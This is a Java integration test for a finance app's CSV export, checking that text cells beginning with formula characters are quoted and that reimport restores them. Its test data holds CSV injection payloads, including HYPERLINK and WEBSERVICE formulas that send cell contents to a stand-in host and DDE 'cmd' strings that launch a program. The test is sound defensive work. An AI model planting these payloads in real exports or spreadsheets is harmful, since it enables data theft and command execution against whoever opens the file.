package org.kiloguardian.gateway.financial;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.equalTo;

import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.PreparedStatement;
import java.sql.SQLException;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import jakarta.inject.Inject;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.kiloguardian.gateway.security.HouseholdUsers;
import org.kiloguardian.security.user.Role;

import io.agroal.api.AgroalDataSource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import io.restassured.path.json.JsonPath;
import io.restassured.response.Response;
import io.restassured.response.ValidatableResponse;
import io.restassured.specification.RequestSpecification;

/**
 * OWASP "CSV injection": a household member (or a bank statement they import) puts a formula into a
 * transaction's text, and whoever opens the export in a spreadsheet runs it. The attack goes the
 * outsider's way: a real user's API token, the REST API to store the text, the REST export, and
 * the REST import of that export.
 */
@QuarkusTest
class CsvFormulaInjectionTest {

    /** The text columns of the export, every one of which must be safe. */
    private static final List<String> TEXT_COLUMNS = List.of("account", "type", "currency", "description", "payee",
            "category", "tags", "notes", "source", "reference");

    @Inject
    HouseholdUsers users;

    @Inject
    AgroalDataSource database;

    @Test
    void noExportedTextCellStartsAFormulaAndReimportingTheExportGivesTheTextBack() throws IOException {
        String token = HouseholdUsers.tokenFor(users.create("mallory", Role.MEMBER));
        long account = as(token).body(Map.of("name", "=Account " + suffix(), "kind", "checking", "openingBalance", "0"))
                .post("/api/financial/accounts").then().statusCode(201).extract().jsonPath().getLong("id");
        String category = as(token).body(Map.of("name", "+Category " + suffix()))
                .post("/api/financial/categories").then().statusCode(201).extract().jsonPath().getString("name");

        // one description per dangerous first character; the API trims tab and CR, which leaves the "=" behind
        List<String> descriptions = List.of(
                "=HYPERLINK(\"http://x/?\"&A1,\"click\")",
                "+1+cmd|' /C calc'!A0",
                "-2+3+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "\t=1+1",
                "\r=2+2",
                "'=already quoted by someone",
                "'quoted, but no formula",
                "Groceries");
        for (int i = 0; i < descriptions.size(); i++) {
            Map<String, Object> body = new LinkedHashMap<>();
            body.put("accountId", account);
            body.put("date", "2026-05-" + (10 + i));
            body.put("amount", "-2.00");
            body.put("description", descriptions.get(i));
            body.put("payee", "=WEBSERVICE(\"http://x/\"&A" + i + ")");
            body.put("category", category);
            body.put("tags", List.of("-tag" + i, "plain"));
            body.put("notes", "@note " + i);
            body.put("bankReference", "+ref-" + suffix());
            as(token).body(body).post("/api/financial/transactions").then().statusCode(201);
        }
        List<Map<String, Object>> stored = transactions(token, account);
        assertThat(stored).hasSize(descriptions.size());
        assertThat(stored).extracting(t -> t.get("description")).contains("=1+1", "=2+2");

        String csv = as(token).queryParam("accountId", account).queryParam("sort", "date").queryParam("order", "asc")
                .get("/api/financial/transactions/export").then().statusCode(200).extract().asString();
        List<CSVRecord> rows = parse(csv);
        assertThat(rows).hasSize(descriptions.size());
        for (int i = 0; i < rows.size(); i++) {
            CSVRecord row = rows.get(i);
            Map<String, Object> original = stored.get(i);
            for (String column : TEXT_COLUMNS) {
                assertThat(row.get(column)).as("%s of row %d", column, i).doesNotStartWith("=").doesNotStartWith("+")
                        .doesNotStartWith("-").doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r");
            }
            assertThat(row.get("amount")).as("amounts stay numbers").isEqualTo("-2.00");
            assertThat(row.get("payee")).isEqualTo("'" + original.get("payee"));
            assertThat(row.get("account")).isEqualTo("'" + original.get("account"));
            assertThat(row.get("category")).isEqualTo("'" + category);
            assertThat(row.get("tags")).isEqualTo("'-tag" + i + "|plain");
            assertThat(row.get("notes")).isEqualTo("'@note " + i);
            assertThat(row.get("reference")).isEqualTo("'" + original.get("bankReference"));
        }
        assertThat(rows).extracting(row -> row.get("description")).containsExactly(
                "'=HYPERLINK(\"http://x/?\"&A1,\"click\")",
                "'+1+cmd|' /C calc'!A0",
                "'-2+3+cmd|' /C calc'!A0",
                "'@SUM(1+1)*cmd|' /C calc'!A0",
                "'=1+1",
                "'=2+2",
                // a text that already starts with ' and a formula gets one more, so the import can take exactly one off
                "''=already quoted by someone",
                "'quoted, but no formula",
                "Groceries");

        long copy = as(token).body(Map.of("name", "Copy " + suffix(), "kind", "checking", "openingBalance", "0"))
                .post("/api/financial/accounts").then().statusCode(201).extract().jsonPath().getLong("id");
        imported(token, copy, csv)
                .body("imported", equalTo(descriptions.size())).body("rejected", equalTo(0));
        List<Map<String, Object>> copied = transactions(token, copy);
        for (String field : List.of("description", "payee", "bankReference", "amount", "date")) {
            assertThat(copied).extracting(t -> t.get(field)).as(field)
                    .containsExactlyElementsOf(stored.stream().map(t -> t.get(field)).toList());
        }
        // into the account it came from, every row is recognised as already stored: the texts are equal
        imported(token, account, csv)
                .body("imported", equalTo(0)).body("duplicates", equalTo(descriptions.size()));
    }

    @Test
    void aTabOrCarriageReturnAtTheStartOfTextThatDidNotComeThroughTheApiIsQuotedToo() throws Exception {
        String token = HouseholdUsers.tokenFor(users.create("trudy", Role.MEMBER));
        long account = as(token).body(Map.of("name", "Old data " + suffix(), "kind", "checking", "openingBalance", "0"))
                .post("/api/financial/accounts").then().statusCode(201).extract().jsonPath().getLong("id");
        long id = as(token).body(Map.of("accountId", account, "date", "2026-06-01", "amount", "-5", "description", "x"))
                .post("/api/financial/transactions").then().statusCode(201).extract().jsonPath().getLong("id");
        // the API trims; rows written before it did (or by hand in the database) may still start with them
        try (Connection connection = database.getConnection();
                PreparedStatement update = connection.prepareStatement(
                        "update financial.transaction set description = ?, payee = ?, notes = ? where id = ?")) {
            update.setString(1, "\t=1+1");
            update.setString(2, "\r=2+2");
            update.setString(3, "\t@SUM(A1)");
            update.setLong(4, id);
            assertThat(update.executeUpdate()).isEqualTo(1);
        } catch (SQLException e) {
            throw new IllegalStateException(e);
        }

        String csv = as(token).queryParam("accountId", account).get("/api/financial/transactions/export")
                .then().statusCode(200).extract().asString();
        CSVRecord row = parse(csv).get(0);
        assertThat(row.get("description")).isEqualTo("'\t=1+1");
        assertThat(row.get("payee")).isEqualTo("'\r=2+2");
        assertThat(row.get("notes")).isEqualTo("'\t@SUM(A1)");
        assertThat(row.get("amount")).isEqualTo("-5.00");

        long copy = as(token).body(Map.of("name", "Copy " + suffix(), "kind", "checking", "openingBalance", "0"))
                .post("/api/financial/accounts").then().statusCode(201).extract().jsonPath().getLong("id");
        imported(token, copy, csv).body("imported", equalTo(1));
        // the quote is gone again; the import trims the surrounding white space, as the API does
        assertThat(transactions(token, copy)).singleElement().satisfies(t -> {
            assertThat(t.get("description")).isEqualTo("=1+1");
            assertThat(t.get("payee")).isEqualTo("=2+2");
        });
    }

    private static RequestSpecification as(String token) {
        return given().auth().oauth2(token).contentType(ContentType.JSON);
    }

    /** Imports and expects a 200; any other answer fails with its body, so a refusal says why. */
    private static ValidatableResponse imported(String token, long account, String csv) {
        Response response = given().auth().oauth2(token)
                .multiPart("file", "transactions.csv", csv.getBytes(StandardCharsets.UTF_8), "text/csv")
                .multiPart("accountId", String.valueOf(account))
                .post("/api/financial/imports");
        assertThat(response.statusCode()).as("the import answered %s", response.asString()).isEqualTo(200);
        return response.then();
    }

    private static List<Map<String, Object>> transactions(String token, long account) {
        JsonPath page = as(token).queryParam("accountId", account).queryParam("sort", "date").queryParam("order", "asc")
                .queryParam("size", 500).get("/api/financial/transactions").then().statusCode(200).extract().jsonPath();
        return new ArrayList<>(page.getList("items"));
    }

    private static List<CSVRecord> parse(String csv) throws IOException {
        CSVFormat format = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get();
        try (CSVParser parser = CSVParser.parse(new StringReader(csv), format)) {
            return parser.getRecords();
        }
    }

    private static String suffix() {
        return UUID.randomUUID().toString().substring(0, 8);
    }
}
